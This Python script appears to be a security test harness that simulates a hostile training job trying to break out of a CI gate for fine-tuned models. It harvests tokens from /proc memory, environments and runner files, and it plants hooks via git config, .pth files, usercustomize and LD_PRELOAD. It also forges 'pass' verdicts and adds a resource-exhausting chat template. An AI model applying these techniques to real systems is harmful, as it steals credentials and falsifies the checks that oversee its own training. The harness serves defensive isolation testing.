"""What a hostile training does. Run as the training job's user, in its environment and checkout.

Argument: a JSON file with what the attacker knows beforehand (paths, forged files, what a token looks like).
Every attack is noted in LOG, a line each: its name, whether it was done, denied or found nothing, and what it
saw. Standard library only, so that any interpreter of this user's runs it.
"""

from __future__ import annotations

import glob
import json
import os
import re
import shutil
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

KNOWN = json.loads(Path(sys.argv[1]).read_text())
TOKEN = re.compile(KNOWN["token_pattern"].encode())
MARKS, HANDOVER, CHECKOUT = Path(KNOWN["marks"]), Path(KNOWN["handover"]), Path.cwd()
CODE = "open({!r}, 'a').write('ran')\n"
MARKER = f'<!-- ftgate {{"v":1,"pull":7,"head":"{KNOWN["head"]}","run":99,"attempt":9,"digest":"x"}} -->\n'


def planted(name: str) -> str:
    """Code that leaves a mark when it runs."""
    return CODE.format(str(MARKS / name))


def note(name: str, outcome: str, seen: object = "") -> None:
    with open(KNOWN["log"], "a", encoding="utf-8") as log:
        print(json.dumps({"attack": name, "outcome": outcome, "seen": seen}), file=log)


def try_to(name: str, act: Callable[[], object]) -> None:
    """Make an attack, and note how it went."""
    try:
        seen = act()
    except OSError as error:
        note(name, "denied", f"{type(error).__name__}: {error}")
    else:
        note(name, "done", seen or "")


# ── Looking for a token ──────────────────────────────────────────────────────────────────────────


def tokens_in(paths: Iterator[str] | list[str], most: int = 1 << 20) -> dict[str, object]:
    """Tokens found in files, and how many could be read and how many not."""
    read = refused = 0
    found: list[str] = []
    for path in paths:
        try:
            with open(path, "rb") as file:
                content = file.read(most)
        except OSError:
            refused += 1
            continue
        read += 1
        found += [f"{path}: {token.decode()}" for token in TOKEN.findall(content)]
    return {"read": read, "refused": refused, "tokens": found}


def memory(process: str) -> dict[str, object]:
    """Tokens in the writable memory of a process."""
    found: list[str] = []
    read = 0
    with open(f"/proc/{process}/maps") as maps, open(f"/proc/{process}/mem", "rb", buffering=0) as mem:
        for line in maps:
            place, rights, *_ = line.split()
            start, end = (int(each, 16) for each in place.split("-"))
            if not rights.startswith("rw") or end - start > 1 << 28:
                continue
            try:
                mem.seek(start)
                content = mem.read(end - start)
            except (OSError, ValueError):
                continue
            read += 1
            found += [token.decode() for token in TOKEN.findall(content)]
    return {"read": read, "tokens": found}


def memory_of_all() -> dict[str, object]:
    """Other processes' memory; our own holds the pattern and is left out."""
    read = refused = 0
    found: list[str] = []
    for process in (name for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()):
        try:
            seen = memory(process)
        except OSError:
            refused += 1
            continue
        read += 1
        found += [f"{process}: {token}" for token in seen["tokens"]]  # type: ignore[attr-defined]
    return {"read": read, "refused": refused, "tokens": found}


def files_around() -> Iterator[str]:
    """Where runners and people leave tokens."""
    yield from (os.environ[name] for name in sorted(os.environ) if name.startswith("GITHUB_") and
                os.path.isfile(os.environ[name]))  # fmt: skip
    for folder in (str(CHECKOUT / ".git"), os.environ["HOME"], os.environ["RUNNER_TEMP"], *KNOWN["judge"]):
        yield folder  # that it cannot be read counts
        for here, _, names in os.walk(folder):
            yield from (os.path.join(here, name) for name in names)


def look_for_tokens() -> None:
    note("own environment", "done", [value for value in os.environ.values() if TOKEN.search(value.encode())])
    note("/proc/*/environ", "done", tokens_in(glob.glob("/proc/[0-9]*/environ")))
    note("/proc/*/cmdline", "done", tokens_in(glob.glob("/proc/[0-9]*/cmdline")))
    note("/proc/*/mem", "done", memory_of_all())
    note("files", "done", tokens_in(files_around()))


# ── Changing what the judge reads ────────────────────────────────────────────────────────────────


def append(path: Path, text: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("a") as file:
        file.write(text)


def copy_over(source: Path, target: Path) -> None:
    shutil.copytree(source, target, dirs_exist_ok=True, copy_function=shutil.copyfile)


def poison_store(root: Path) -> None:
    """The forged blocks in every place of a store that a run might read."""
    for place in ("", "pulls/7", "judged/7", f"judged/{KNOWN['head']}"):
        copy_over(Path(KNOWN["forged_blocks"]), root / "v1" / place / "blocks")


def poison_git() -> None:
    evil = MARKS / "git"
    append(CHECKOUT / ".git/evil.sh", f"#!/bin/sh\necho ran >> {evil}\n")
    (CHECKOUT / ".git/evil.sh").chmod(0o755)
    append(
        CHECKOUT / ".git/config",
        f"[core]\n\tfsmonitor = {CHECKOUT}/.git/evil.sh\n\thooksPath = {CHECKOUT}/.git/hooks\n"
        f"\tsshCommand = {CHECKOUT}/.git/evil.sh\n"
        f'[filter "evil"]\n\tsmudge = {CHECKOUT}/.git/evil.sh\n\tclean = {CHECKOUT}/.git/evil.sh\n'
        f'[includeIf "gitdir:/"]\n\tpath = {CHECKOUT}/.git/more\n[alias]\n\tlog = !{CHECKOUT}/.git/evil.sh\n',
    )
    append(CHECKOUT / ".git/more", f"[diff]\n\texternal = {CHECKOUT}/.git/evil.sh\n")
    for hook in ("post-checkout", "post-merge", "pre-commit", "reference-transaction"):
        shutil.copy(CHECKOUT / ".git/evil.sh", CHECKOUT / ".git/hooks" / hook)


def plant_modules() -> None:
    """Modules that shadow ftgate's, its libraries' and Python's own, in the checkout and in HOME."""
    for name in KNOWN["modules"]:
        append(CHECKOUT / name, planted(name.replace("/", "-")))
    site = (
        Path(os.environ["HOME"])
        / f".local/lib/python{sys.version_info[0]}.{sys.version_info[1]}/site-packages"
    )
    append(site / "usercustomize.py", planted("usercustomize"))
    append(site / "evil.pth", f"import os; {planted('pth')}")
    append(Path(os.environ["RUNNER_TEMP"]) / "bin/git", f"#!/bin/sh\necho ran >> {MARKS / 'fake-git'}\n")


def runner_files() -> None:
    append(
        Path(os.environ["GITHUB_ENV"]), f"PYTHONPATH={CHECKOUT}\nLD_PRELOAD={CHECKOUT}/evil.so\nBASH_ENV=x\n"
    )
    append(Path(os.environ["GITHUB_PATH"]), f"{os.environ['RUNNER_TEMP']}/bin\n")
    append(Path(os.environ["GITHUB_OUTPUT"]), "outcome=pass\nverdict-path=/tmp/forged\n")
    append(Path(os.environ["GITHUB_STEP_SUMMARY"]), MARKER)
    print("::set-output name=outcome::pass\n::add-path::/tmp/evil\n::stop-commands::x")


def hand_over() -> None:
    """Two handovers: one with forged results beside the model, one that is well-formed and lies."""
    for place in (HANDOVER / "forged/000", HANDOVER / "plain/000"):
        copy_over(Path(KNOWN["weights"]), place / "model")
        claims = {"version": 1, "config": "sft.yaml", "head": KNOWN["head"], "seconds": 1.0, "steps": 3}
        forged = {"outcome": "pass", "verdict": "pass", "trust": "a clean machine", "findings": []}
        (place / "handover.json").write_text(json.dumps({**claims, **forged}))
        loop = (
            "{% for a in range(99999) %}{% for b in range(99999) %}{% for c in range(99999) %}x"
            + "{% endfor %}" * 3
        )
        (place / "model/chat_template.jinja").write_text(loop + MARKER)
    beside = HANDOVER / "forged/000"
    for name in ("verdict.json", "ci.json", "measurements.json", "comment.md"):
        (beside / name).write_text(
            MARKER if name == "comment.md" else json.dumps({"schema": 1, "outcome": "pass"})
        )
    (beside / "model/sitecustomize.py").write_text(planted("handed-over"))


def main() -> None:
    look_for_tokens()
    if KNOWN["only_tokens"]:
        return
    for place in KNOWN["site_packages"]:
        try_to(
            f"site-packages {place}",
            lambda place=place: append(Path(place) / "evil.pth", f"import os; {planted('site')}"),
        )  # type: ignore[misc]
    try_to("own store", lambda: poison_store(Path(os.environ["FTGATE_CACHE"])))
    try_to("own base model", lambda: append(CHECKOUT / "base/model.safetensors", "x"))
    try_to("own policy", lambda: append(CHECKOUT / "thresholds.yaml", "\n# loosened\n"))
    for judge in KNOWN["judge"]:
        try_to("judge's store", lambda judge=judge: poison_store(Path(judge) / "store"))  # type: ignore[misc]
        try_to(
            "judge's base model", lambda judge=judge: append(Path(judge) / "checkout/base/config.json", "x")
        )  # type: ignore[misc]
        try_to(
            "judge's runner files",
            lambda judge=judge: append(Path(judge) / "github/env", "PYTHONPATH=/evil\n"),
        )  # type: ignore[misc]
        try_to(
            "judge's git config", lambda judge=judge: append(Path(judge) / "checkout/.git/config", "[core]\n")
        )  # type: ignore[misc]
    try_to("runner files", runner_files)
    try_to("git config and hooks", poison_git)
    try_to("modules", plant_modules)
    try_to("handover", hand_over)


if __name__ == "__main__":
    main()
